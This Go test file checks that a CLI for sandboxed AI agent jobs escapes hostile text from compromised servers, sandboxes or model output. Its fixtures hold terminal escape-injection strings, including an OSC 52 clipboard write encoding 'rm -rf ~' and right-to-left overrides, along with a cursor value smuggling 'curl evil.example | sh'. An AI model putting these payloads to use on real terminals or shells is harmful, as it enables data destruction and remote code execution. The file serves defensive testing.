package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/drydockhq/drydock"
	"github.com/drydockhq/drydock/agent/transcript"
	"github.com/drydockhq/drydock/client/clienttest"
)

// hostile is what a sandbox (a tool's output, the model's words, a summary)
// or a hostile server could put in any text field to take over the terminal
// of the person reading it: an OSC 52 clipboard write, a window title, a
// screen clear, a carriage return that hides what precedes it, a "Trojan
// Source" right-to-left override, and a C1 CSI (U+009B) that conceals what
// follows on terminals that honour C1. It holds no "ESC [ digits m", so that
// the CLI's own colours can be told apart from it.
const hostile = "pwn\x1b]52;c;cm0gLXJmIH4=\a\x1b]0;sudo\a\x1b[2J\rEVIL\u202eexe.txt\u009b8mhidden\x7f"

// hostileLines is hostile spread over lines, as a tool's output would be.
const hostileLines = "first line\n" + hostile + "\r\n\tlast\rline\n"

// hostileTask starts with hostile, so that a command showing the first line
// of a task shows it.
const hostileTask = hostile + "\nsecond line"

// ownColours are the SGR sequences the CLI itself writes (ansi).
var ownColours = regexp.MustCompile(`\x1b\[[0-9;]*m`)

// assertTerminalSafe fails unless out, once the CLI's own colours are
// removed, holds nothing a terminal would act on: no C0 control but newline
// and tab, no DEL, no C1 control, no invalid UTF-8, no bidirectional
// override or isolate.
func assertTerminalSafe(t *testing.T, what, out string) {
	t.Helper()
	plain := ownColours.ReplaceAllString(out, "")
	for i, r := range plain {
		bad := r < 0x20 && r != '\n' && r != '\t' ||
			r == 0x7f || r >= 0x80 && r <= 0x9f ||
			r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 ||
			r == utf8.RuneError && !strings.HasPrefix(plain[i:], "\ufffd")
		if bad {
			lo, hi := max(0, i-40), min(len(plain), i+40)
			t.Errorf("%s: %U reaches the terminal at byte %d: %q", what, r, i, plain[lo:hi])
			return
		}
	}
}

// assertShown fails unless out shows, escaped, that control characters
// were there.
func assertShown(t *testing.T, what, out string) {
	t.Helper()
	if !strings.Contains(out, "^[") || !strings.Contains(out, `\u202e`) {
		t.Errorf("%s: nothing shows that control characters were there:\n%s", what, out)
	}
}

// hostileJob stores a job on the fake server whose every field and event
// carries hostile text, as a compromised sandbox and model would make it.
func hostileJob(t *testing.T, srv *clienttest.Server) *drydock.Job {
	t.Helper()
	j := srv.AddJob(drydock.JobSpec{Task: hostileTask, Model: hostile, Metadata: map[string]string{"k" + hostile: hostile}}, time.Now().Add(-time.Minute))
	srv.SetStatus(j.ID, drydock.StatusRunning, "")
	hostileEvents(srv, j.ID)
	srv.SetProgress(j.ID, 3, drydock.Usage{InputTokens: 10, OutputTokens: 5}, hostileLines)
	srv.SetArtifact(j.ID, "tar.gz", []byte("archive"))
	srv.SetStatus(j.ID, drydock.StatusError, hostileLines)
	return srv.Job(j.ID)
}

// hostileEvents appends one event of every kind, each carrying hostile text.
func hostileEvents(srv *clienttest.Server, id string) {
	srv.Emit(id, drydock.EventModel, map[string]any{"text": hostileLines})
	srv.Emit(id, drydock.EventToolCall, map[string]any{"id": "c1", "name": "bash", "input": map[string]any{"command": hostileLines}})
	srv.Emit(id, drydock.EventObservation, map[string]any{"id": "c1", "name": "bash", "output": hostileLines})
	srv.Emit(id, drydock.EventObservation, map[string]any{"id": "c1", "name": "bash", "output": hostileLines, "is_error": true})
	for _, tool := range []string{"str_replace_based_edit_tool", "computer", "execute_code", "recall", "finish", hostile} {
		srv.Emit(id, drydock.EventToolCall, map[string]any{"id": "c2", "name": tool, "input": map[string]any{
			"command": hostile, "path": hostile, "action": hostile, "text": hostile, "language": hostile, "code": hostile, "query": hostile, "summary": hostile}})
	}
	srv.Emit(id, drydock.EventError, map[string]any{"message": hostileLines})
	srv.Emit(id, drydock.EventLog, map[string]any{"level": "warn", "message": hostileLines})
	srv.Emit(id, drydock.EventArtifact, map[string]any{"size": 10, "format": hostile})
	srv.Emit(id, drydock.EventSummary, map[string]any{"summary": hostileLines})
	srv.Emit(id, drydock.EventType("mystery"+hostile), map[string]any{"x": hostile})
}

// Every command that prints what a job holds shows hostile text escaped,
// with and without colours, and as JSON.
func TestHostileJobNeverReachesTheTerminal(t *testing.T) {
	t.Parallel()
	srv, newRun := setupFake(t)
	j := hostileJob(t, srv)
	for _, args := range [][]string{
		{"jobs"},
		{"jobs", "--json"},
		{"status", j.ID},
		{"status", j.ID, "--json"},
		{"logs", j.ID},
		{"logs", j.ID, "-f"},
		{"logs", j.ID, "--json"},
	} {
		for _, color := range []bool{false, true} {
			name := fmt.Sprintf("%s color=%v", strings.Join(args, " "), color)
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				r := newRun()
				r.color = color
				if err := r.exec(args...); err != nil {
					t.Fatal(err)
				}
				assertTerminalSafe(t, "stdout", r.out.String())
				assertTerminalSafe(t, "stderr", r.err.String())
				if !strings.Contains(name, "--json") {
					assertShown(t, "stdout", r.out.String())
				}
			})
		}
	}
}

// The fields a person reads are still there, escaped where they would have
// acted, and a JSON reader gets exactly what the server sent.
func TestHostileTextIsShownNotHidden(t *testing.T) {
	t.Parallel()
	srv, newRun := setupFake(t)
	j := hostileJob(t, srv)

	r := newRun()
	if err := r.exec("status", j.ID); err != nil {
		t.Fatal(err)
	}
	shown := `pwn^[]52;c;cm0gLXJmIH4=^G^[]0;sudo^G^[[2J^MEVIL\u202eexe.txt\u009b8mhidden^?`
	mustContain(t, "status", r.out.String(), "Model:    "+shown, "Task:     "+shown+" …", "Error:    first line "+shown)

	r = newRun()
	if err := r.exec("logs", j.ID); err != nil {
		t.Fatal(err)
	}
	mustContain(t, "logs", r.out.String(),
		"output   first line\n", "         "+shown+"\n", "         \tlast^Mline\n",
		"tool     bash $ first line …", "error    first line …", "summary  first line\n")

	r = newRun()
	if err := r.exec("jobs", "--json"); err != nil {
		t.Fatal(err)
	}
	var page struct{ Jobs []*drydock.Job }
	if err := json.Unmarshal([]byte(r.out.String()), &page); err != nil || len(page.Jobs) != 1 {
		t.Fatalf("jobs --json: %v\n%s", err, r.out.String())
	}
	if got := page.Jobs[0]; got.Task != hostileTask || got.Error != hostileLines || got.Summary != hostileLines {
		t.Errorf("jobs --json changed the job's text: %q %q %q", got.Task, got.Error, got.Summary)
	}
}

// schedule --follow and --wait print what the server and the sandbox send
// while the job runs, escaped.
func TestHostileScheduleFollowAndWait(t *testing.T) {
	t.Parallel()
	for _, mode := range []string{"--follow", "--wait"} {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			srv, newRun := setupFake(t)
			r := newRun()
			r.color = true
			done := make(chan error, 1)
			go func() { done <- r.exec("schedule", "a task", mode) }()
			id := scheduled(t, srv)
			srv.SetStatus(id, drydock.StatusRunning, "")
			hostileEvents(srv, id)
			srv.SetProgress(id, 2, drydock.Usage{}, hostileLines)
			srv.SetStatus(id, drydock.StatusError, hostileLines)
			if err := <-done; err == nil || err.Error() != "job "+id+" failed" {
				t.Errorf("error = %v, want job %s failed", err, id)
			}
			assertTerminalSafe(t, "stdout", r.out.String())
			assertTerminalSafe(t, "stderr", r.err.String())
			assertShown(t, "stdout", r.out.String())
		})
	}
}

// hostileServer answers every job route with a job whose every field,
// identifiers and links included, is hostile, and a cursor that is a shell
// command: what a compromised server or a wrong --url could send.
func hostileServer(t *testing.T) string {
	t.Helper()
	job := &drydock.Job{ID: "j1" + hostile, Status: drydock.JobStatus("runn" + hostile), CreatedAt: time.Now(),
		JobSpec:     drydock.JobSpec{Task: hostile, Egress: []string{"pypi.example.com:443", hostile}},
		StatusURL:   "http://x/" + hostile,
		VNCURL:      "http://x/vnc" + hostile,
		DownloadURL: "http://x/dl" + hostile,
		// What status prints beside 'drydock download'.
		DownloadURLTar: "http://x/dltar" + hostile,
	}
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case strings.HasSuffix(r.URL.Path, "/fail"):
			w.WriteHeader(http.StatusConflict)
			json.NewEncoder(w).Encode(map[string]any{"error": map[string]string{"code": "conflict" + hostile, "message": hostileLines}})
		case strings.HasSuffix(r.URL.Path, "/nope"):
			w.WriteHeader(http.StatusUnauthorized)
			json.NewEncoder(w).Encode(map[string]any{"error": map[string]string{"code": "unauthorized", "message": hostile}})
		case r.URL.Path == "/v1/jobs" && r.Method == http.MethodGet:
			json.NewEncoder(w).Encode(map[string]any{"jobs": []*drydock.Job{job}, "next_cursor": "c1; curl evil.example | sh" + hostile})
		case r.URL.Path == "/v1/jobs":
			w.WriteHeader(http.StatusCreated)
			json.NewEncoder(w).Encode(job)
		default:
			json.NewEncoder(w).Encode(job)
		}
	}))
	t.Cleanup(hs.Close)
	return hs.URL
}

// Identifiers, states, links, egress lists and cursors from the server are
// escaped too, and a command the CLI suggests never pastes a server's words
// into a shell unquoted.
func TestHostileServerFieldsAreEscaped(t *testing.T) {
	t.Parallel()
	url := hostileServer(t)
	for _, args := range [][]string{
		{"jobs"},
		{"status", "j1"},
		{"egress", "j1"},
		{"egress", "j1", "--allow", "npm.example.com:443"},
		{"egress", "j1", "--remove", "nothere"},
		{"cancel", "j1"},
		{"schedule", "t"},
		{"schedule", "t", "--json"},
		{"status", "fail"},
		{"status", "nope"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			t.Parallel()
			r := &cliRun{t: t, url: url, token: "ddk_x", color: true}
			err := r.exec(args...)
			shown := r.out.String() + r.err.String()
			assertTerminalSafe(t, "stdout and stderr", shown)
			if err != nil {
				assertTerminalSafe(t, "error", err.Error())
				var b strings.Builder
				printError(&b, err)
				shown += b.String()
			}
			assertTerminalSafe(t, "all", shown)
			if !strings.Contains(strings.Join(args, " "), "--json") {
				assertShown(t, "all", shown)
			}
			if strings.Contains(r.err.String(), "More jobs") {
				mustContain(t, "stderr", r.err.String(), `--cursor 'c1; curl evil.example | sh`)
			}
		})
	}
}

// main's error printer is the last line of defence: whatever an error
// quotes (a file, an engine, a server) is escaped there, and errors.Join's
// lines stay lines.
func TestPrintErrorEscapes(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	printError(&b, errors.Join(errors.New("first "+hostile), errors.New("second")))
	want := `drydock: first pwn^[]52;c;cm0gLXJmIH4=^G^[]0;sudo^G^[[2J^MEVIL\u202eexe.txt\u009b8mhidden^?` + "\nsecond\n"
	if b.String() != want {
		t.Errorf("printed %q\nwant    %q", b.String(), want)
	}
}

// replay prints recorded and replayed tool calls and outputs: a trajectory
// (from a file or the server) and the commands it runs are hostile too.
func TestHostileReplay(t *testing.T) {
	t.Parallel()
	b := newTrajectory("0193aaaa-0000-7000-8000-00000000000" + hostile)
	printHostile := `printf 'pwn\033]52;c;cm0gLXJmIH4=\007\033[2J\rEVIL\342\200\256exe\302\2338m raw\2338m\n'`
	b.call("bash", jsonString(map[string]string{"command": printHostile + " # " + hostile}), nil)
	b.call("bash", jsonString(map[string]string{"command": printHostile}), &transcript.Observation{Output: "recorded " + hostile, IsError: true})
	b.call(hostile, jsonString(map[string]string{"x": hostile}), &transcript.Observation{Output: hostile})
	out, errOut, err := replayRun(t, "", b.write(t), "--runtime", "local", "--data-dir", t.TempDir(), "--keep")
	if err == nil {
		t.Fatalf("replay of differing calls succeeded:\n%s", out)
	}
	assertTerminalSafe(t, "replay output", out+errOut)
	mustContain(t, "replay output", out, `replayed: pwn^[]52;c;cm0gLXJmIH4=^G^[[2J^MEVIL\u202eexe\u009b8m raw`)
}

// --url pointing at a web server that is not Drydock, or a proxy answering
// for a server that is down, gives one short line that says so, never the
// page; and a page's 404 is not taken for "job not found".
func TestForeignServerIsNamedNotDumped(t *testing.T) {
	t.Parallel()
	page := "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center>\r\n" +
		strings.Repeat("<!-- padding \x1b[2J -->\r\n", 50) + "</body></html>\r\n"
	for _, tc := range []struct {
		status int
		body   string
		want   []string
	}{
		{http.StatusBadGateway, page, []string{`answered 502 Bad Gateway with text/html ("502 Bad Gateway")`, "or is a proxy in front of it failing?"}},
		{http.StatusNotFound, "<!doctype html><title>Page not found · GitHub</title>", []string{`answered 404 Not Found with text/html ("Page not found · GitHub")`, "is it a Drydock server?"}},
		{http.StatusOK, "<!doctype html><title>Welcome to nginx!</title>", []string{`answered 200 OK with text/html ("Welcome to nginx!")`, "is it a Drydock server?"}},
	} {
		hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(tc.status)
			fmt.Fprint(w, tc.body)
		}))
		t.Cleanup(hs.Close)
		for _, args := range [][]string{{"status", "j1"}, {"jobs"}, {"logs", "j1", "-f"}, {"schedule", "t"}, {"cancel", "j1"}} {
			if tc.status == http.StatusBadGateway && args[0] == "schedule" {
				continue // retried under its key: a gateway's 502 may follow a creation
			}
			t.Run(fmt.Sprint(tc.status, " ", strings.Join(args, " ")), func(t *testing.T) {
				r := &cliRun{t: t, url: hs.URL, token: "ddk_x"}
				err := r.exec(args...)
				if err == nil {
					t.Fatal("succeeded against a server that is not Drydock")
				}
				msg := err.Error()
				mustContain(t, "error", msg, append(tc.want, "the server at "+hs.URL, "(set DRYDOCK_URL or --url)")...)
				if len(msg) > 400 || strings.ContainsAny(msg, "<>\r\n\x1b") || strings.Contains(msg, "not found (or it belongs") {
					t.Errorf("error is not one short line about the server (%d bytes): %q", len(msg), msg)
				}
			})
		}
	}
}
